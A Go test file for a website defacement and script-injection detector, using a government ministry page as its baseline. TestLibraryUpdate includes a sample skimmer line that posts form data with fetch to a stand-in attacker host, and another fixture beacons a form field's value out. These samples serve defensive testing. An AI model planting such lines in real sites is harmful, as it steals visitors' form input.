package compare

import (
	"encoding/json"
	"strings"
	"testing"
)

// Living pages, campaigns and mishaps that detectors take for defacements.
func TestHarmlessChanges(t *testing.T) {
	b := ministryBaseline(t)
	for name, look := range map[string]func(testing.TB) Look{
		"the next look":       func(t testing.TB) Look { return ministryLook(t, 9) },
		"mourning banner":     added(`<div style="background:#000;color:#fff"><h2>The nation mourns. Flags fly at half mast.</h2></div>`),
		"independence day":    added(`<div class=green><h1>Jashn-e-Azadi Mubarak! 14 August, Pakistan Zindabad</h1><img src=/img/flag.gif></div>`),
		"kashmir day":         added(`<h2>Kashmir Solidarity Day: we stand with the people of Kashmir</h2>`),
		"cookie banner":       added(`<div id=cookie><p>We use cookies to improve this site.</p><button>Accept</button></div>`),
		"political words":     added(`<p>The army, the security council and the resistance were discussed; attacks were condemned and an assembly of hackers and terrorists was banned.</p>`),
		"security advisory":   added(`<p><a href=/advisory/12>Advisory: if your website has been hacked or defaced, report it to the response team</a></p>`),
		"news in Urdu":        added(`<p>وزیر منصوبہ بندی نے سائبر سیکیورٹی سے متعلق اجلاس کی صدارت کی اور ویب سائٹس کو محفوظ بنانے کی ہدایت کی۔</p>`),
		"analytics":           external("https://www.googletagmanager.com/gtag/js?id=G-1", `window.dataLayer=[];function gtag(){dataLayer.push(arguments)};navigator.sendBeacon("https://www.google-analytics.com/g/collect",document.forms[0].elements[0].value)`),
		"staff directory":     added("<p>" + mails(60, "planning.gov.pk") + "</p>"),
		"own download":        added(`<a href=/files/plan.exe>Data entry program</a>`),
		"visitor's own frame": added(`<iframe src="https://www.youtube.com/embed/x"></iframe>`),
	} {
		t.Run(name, func(t *testing.T) {
			r := Compare(b, look(t), nil)
			most := Benign
			if name == "staff directory" {
				most = Suspicious // a person should know
			}
			if r.Verdict != Benign && r.Verdict != most {
				t.Errorf("want %s, got %s", most, describe(r))
			}
		})
	}
}

// A redesign and a language switch go to the analysts at most.
func TestRebuiltPagesDoNotPage(t *testing.T) {
	b := ministryBaseline(t)
	urdu := strings.NewReplacer("About the ministry", "وزارت کے بارے میں", "Projects and schemes", "منصوبے", "Tenders", "ٹینڈرز", "Contact us", "رابطہ", "Ministry of Planning, Development and Reform", "وزارت منصوبہ بندی، ترقی و اصلاحات",
		"Ministry of Finance", "وزارت خزانہ", "Latest notices", "تازہ ترین اطلاعات", "of the development programme", "ترقیاتی پروگرام",
		"The Ministry of Planning prepares the national plan, reviews public sector projects and monitors how they are carried out in all provinces.", "وزارت قومی منصوبہ تیار کرتی ہے اور تمام صوبوں میں منصوبوں کی نگرانی کرتی ہے۔")
	for name, look := range map[string]func(testing.TB) Look{
		"redesign":        wholePage("Ministry of Planning, Development and Reform", redesigned),
		"language switch": func(t testing.TB) Look { return edited(t, urdu.Replace) },
		"maintenance":     wholePage("Maintenance", "<h1>Site under maintenance</h1><p>We will be back soon.</p>"),
	} {
		if r := Compare(b, look(t), nil); r.Verdict != Suspicious && r.Verdict != Benign {
			t.Errorf("%s: %s", name, describe(r))
		}
	}
}

// A library that moves up one version is the same library; with a skimmer at its
// end it is not.
func TestLibraryUpdate(t *testing.T) {
	library := strings.Repeat("(function(a){var b=a.length;for(var c=0;c<b;c++){if(a[c]===b){return c}}return a.filter(function(d){return d>c})})(window);\n", 40) +
		`function ajax(u,f){var r=new XMLHttpRequest();r.open("POST",u);r.send(f.value)}`
	with := func(url, source string) Look { return external(url, source)(t) }
	first := with("https://www.planning.gov.pk/js/jquery-3.7.0.min.js", library+`var v="3.7.0";`)
	b := learned(first)
	if r := Compare(b, with("https://www.planning.gov.pk/js/jquery-3.7.1.min.js", library+`var v="3.7.1";function fix(a){return a||0}`), nil); r.Verdict != Benign {
		t.Errorf("update: %s", describe(r))
	}
	skimmer := strings.TrimSuffix(strings.TrimPrefix(inlineSkimmer, "<script>"), "</script>")
	if r := Compare(b, with("https://www.planning.gov.pk/js/jquery-3.7.0.min.js", library+skimmer), nil); r.Verdict != Alert || !hasRule(r, "injection.skimmer") {
		t.Errorf("skimmer at the end of the same file: %s", describe(r))
	}
	if r := Compare(b, with("https://cdn.evil-js.top/jquery.js", skimmer), nil); r.Verdict != Alert {
		t.Errorf("skimmer from a new host: %s", describe(r))
	}
	b.Sources = nil
	if r := Compare(b, with("https://cdn.evil-js.top/jquery.js", skimmer), nil); r.Verdict != Alert {
		t.Errorf("the same without the baseline's sources: %s", describe(r))
	}
	moved := Look{View: first.View, Sources: map[string]string{}}
	moved.View.Scripts = []Script{{Kind: "external", URL: first.View.Scripts[0].URL, Host: "www.planning.gov.pk", SHA256: digest("x"), Tokens: "t"}}
	b.Scripts = []KnownScript{{SHA256: digest("y"), Tokens: "t", Host: "www.planning.gov.pk"}}
	moved.Sources[digest("x")] = `var u="https://drop.evil-js.top/c";var f=new FormData();fetch(u,{body:f})`
	if r := Compare(b, moved, nil); !hasRule(r, "injection.skimmer") {
		t.Errorf("same tokens, another address in a literal: %s", describe(r))
	}
}

func TestMissing(t *testing.T) {
	b := Learn([]Look{ministryLook(t, 1)})
	if m := b.Missing(ministryLook(t, 1).View); len(m) != 0 {
		t.Errorf("sources %v wanted although no script is new", m)
	}
	if m := b.Missing(external("https://a.example.org/x.js", "f()")(t).View); len(m) != 1 || m[0] != b.Scripts[0].SHA256 {
		t.Errorf("sources wanted: %v, want that of the page's one script", m)
	}
}

// A look is unchanged only if what it does is unchanged, too.
func TestUnchanged(t *testing.T) {
	look := ministryLook(t, 1)
	look.View.PictureDigest = "p"
	b := Learn([]Look{look, ministryLook(t, 2)})
	if r := Compare(b, Look{View: look.View}, nil); r.Verdict != Unchanged {
		t.Errorf("an approved look: %s", describe(r))
	}
	other := look
	other.View.Scripts = []Script{{Kind: "external", URL: "https://www.planning.gov.pk/a.js", Host: "www.planning.gov.pk", SHA256: "changed"}}
	if r := Compare(b, other, nil); r.Verdict == Unchanged {
		t.Error("picture and DOM are the same but a script is not: unchanged")
	}
}

// What must not be compared is not, unless a defacer signed it.
func TestNotComparable(t *testing.T) {
	b := ministryBaseline(t)
	page := func(title, body, reason string, status int) Look {
		l := lookAt(t, ministryURL, whole(title, body)(""), "")
		l.View.NotComparable, l.View.Status = reason, status
		return l
	}
	for _, tt := range []struct {
		name string
		look Look
		want Verdict
	}{
		{"challenge", page("Just a moment...", "Checking your browser", "challenge", 403), NotComparable},
		{"error by status", page("Error", "Something failed", "", 503), NotComparable},
		{"stack trace", page("Error", "Traceback (most recent call last)", "error_page", 500), NotComparable},
		{"signed error page", page("404", "<h1>Hacked by QuietFox</h1>", "error_page", 404), Alert},
		{"nothing", Look{View: View{URL: ministryURL}}, NotComparable},
	} {
		r := Compare(b, tt.look, nil)
		if r.Verdict != tt.want || r.NotComparable == "" {
			t.Errorf("%s: want %s with a reason, got %s (%s)", tt.name, tt.want, describe(r), r.NotComparable)
		}
	}
	if Learn([]Look{page("x", "y", "blank", 200)}) != nil {
		t.Error("a baseline was learnt from a look that must not be compared")
	}
}

// Without a baseline only what is certain counts.
func TestFirstSight(t *testing.T) {
	for name, tt := range map[string]struct {
		html string
		want Verdict
	}{
		"ordinary page":  {ministry(1), Benign},
		"defaced page":   {whole("Hacked by QuietFox", "<h1>QuietFox was here</h1>")(""), Alert},
		"signed block":   {middle("<div><h2>Hacked by QuietFox</h2></div>")(ministry(1)), Alert},
		"open directory": {"<html><head><title>Index of /</title></head><body><h1>Index of /</h1><a href=../>../</a></body></html>", Alert},
		"numbers":        {into(identities(40), "</body>")(ministry(1)), Alert},
		"a report": {into("<p>In March the portal of the province was hacked by a group called QuietFox, the inquiry found, and citizens could not reach it for two days.</p>",
			"</body>")(ministry(1)), Benign},
	} {
		if r := Compare(nil, lookAt(t, ministryURL, tt.html, ""), nil); r.Verdict != tt.want {
			t.Errorf("%s: want %s, got %s", name, tt.want, describe(r))
		}
	}
}

// A baseline judges the same after it was stored, and a large page's stays small.
func TestBaselineSurvivesJSON(t *testing.T) {
	b := ministryBaseline(t)
	data, err := json.Marshal(b)
	if err != nil {
		t.Fatal(err)
	}
	back := new(Baseline)
	if err := json.Unmarshal(data, back); err != nil {
		t.Fatal(err)
	}
	back.Reference, back.Sources = b.Reference, b.Sources
	for _, tr := range trials {
		want, got := Compare(b, tr.bad(t), nil), Compare(back, tr.bad(t), nil)
		if describe(want) != describe(got) {
			t.Errorf("%s: %s\nafter JSON: %s", tr.rule, describe(want), describe(got))
		}
	}
	var looks []Look
	for i := range 3 {
		looks = append(looks, pageLook(t, bigPage(i)))
	}
	if data, err := json.Marshal(Learn(looks)); err != nil || len(data) > 300<<10 {
		t.Errorf("the baseline of a page of 400 notices takes %d bytes (%v), want at most 300 KiB", len(data), err)
	}
}

// Hostile trees are read without harm.
func TestHostileViews(t *testing.T) {
	loop := View{URL: "http://x/", Elements: []Element{{Parent: 1, Tag: "a", Text: "x"}, {Parent: 0, Tag: "b"}, {Parent: 2, Tag: "i"}, {Parent: -7, Tag: ""}}}
	deep := View{URL: "::", FinalURL: "%", Links: []Link{{URL: "http://[::1"}}, Meta: Meta{Refresh: "0;url=", Base: "//"}}
	for i := range 20_000 {
		deep.Elements = append(deep.Elements, Element{Parent: int32(i - 1), Tag: "div", Text: "Hacked\xff"})
	}
	for _, v := range []View{loop, deep} {
		b := Learn([]Look{{View: v}})
		Compare(b, Look{View: deep}, []Box{{-5, -5, -1, 1 << 30}})
		Compare(nil, Look{View: v}, nil)
	}
}
